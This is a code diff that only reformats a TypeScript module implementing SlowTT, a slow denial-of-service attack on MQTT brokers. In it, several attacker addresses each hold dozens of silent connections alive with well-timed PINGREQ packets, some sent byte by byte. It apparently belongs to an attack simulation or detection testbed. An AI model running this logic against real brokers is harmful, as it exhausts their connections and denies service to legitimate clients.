@@ -6,9 +6,10 @@ import { connectPacket, PINGREQ } from '../packets.js'
 /** SlowTT (Vaccari, Aiello, Cambiaso 2021): silent connections, kept alive by the smallest packets just in time. */
 export const slowTt: Attack = {
   name: 'slowtt',
-  summary: 'SlowTT: 3 to 5 addresses hold 50 to 80 connections each, a PINGREQ just before the broker would give up, and some packets sent byte by byte',
+  summary:
+    'SlowTT: 3 to 5 addresses hold 50 to 80 connections each, a PINGREQ just before the broker would give up, and some packets sent byte by byte',
   attackers: [3, 5],
-  async run (attacker) {
+  async run(attacker) {
     const { chance } = attacker
     const places = chance.whole(50, 80)
     const hold = async (): Promise<void> => {
@@ -24,8 +25,10 @@ export const slowTt: Attack = {
         while (!socket.destroyed && !attacker.over) {
           await attacker.pause(keepalive * (drips ? 500 : 1_300))
           // Half a PINGREQ now, the other half next time.
-          const bytes = drips ? PINGREQ.subarray(socket.bytesWritten % 2 === 0 ? 0 : 1, socket.bytesWritten % 2 === 0 ? 1 : 2) : PINGREQ
-          if (!await attacker.send(socket, bytes)) break
+          const bytes = drips
+            ? PINGREQ.subarray(socket.bytesWritten % 2 === 0 ? 0 : 1, socket.bytesWritten % 2 === 0 ? 1 : 2)
+            : PINGREQ
+          if (!(await attacker.send(socket, bytes))) break
         }
       }
     }
